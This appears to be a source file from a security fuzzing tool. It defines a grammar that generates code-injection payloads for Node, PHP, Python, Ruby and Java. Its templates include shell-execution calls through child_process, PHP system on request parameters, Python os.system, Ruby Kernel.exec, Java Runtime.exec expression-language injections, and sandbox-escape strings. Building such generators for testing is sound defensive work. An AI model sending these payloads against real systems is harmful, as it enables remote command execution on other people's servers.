import type { Grammar } from '../grammar.ts';
import { words } from '../words.ts';

/** Code injection (CWE-94) for Node, PHP, Python, Ruby and Java. */
export const code: Grammar = {
  ...words,
  start: ['<node>', '<php>', '<python>', '<ruby>', '<java>'],
  node: [
    "require('child_process').<run>('<ident>')",
    "process.mainModule.require('fs').readdirSync('.')",
    'global.process.exit(<number>)',
    "(function(){return this.constructor.constructor('return process')()})()",
    "eval('<ident>')+res.end(<number>)",
  ],
  run: ['exec', 'execSync', 'spawn'],
  php: [
    "<open><function>($_GET['<ident>']); ?>",
    'phpinfo();',
    '${@<function>(<ident>)}',
    'assert($_REQUEST[<ident>])',
    'O:<digit>:"<ident>":<digit>:{s:<digit>:"<ident>";}',
    "';<function>('<ident>');//",
  ],
  open: ['<<?php ', '<<?= ', '<<? '],
  function: ['system', 'eval', 'passthru', 'shell_exec', 'assert', 'base64_decode', 'file_get_contents', 'popen'],
  python: [
    "__import__('os').<pyrun>('<ident>')",
    "exec(open('<ident>').read())",
    "eval(compile('<ident>','','exec'))",
    '().__class__.__bases__[0].__subclasses__()',
  ],
  pyrun: ['system', 'popen'],
  ruby: ['`<ident>`.to_s', "Kernel.exec('<ident>')", "IO.popen('<ident>').read", "open('|<ident>')"],
  java: [
    'T(java.lang.Runtime).getRuntime().exec("<ident>")',
    'new java.lang.ProcessBuilder("<ident>").start()',
    '%{(#<ident>=@java.lang.Runtime@getRuntime())}',
    '#{session.getClass().forName("java.lang.Runtime")}',
  ],
};
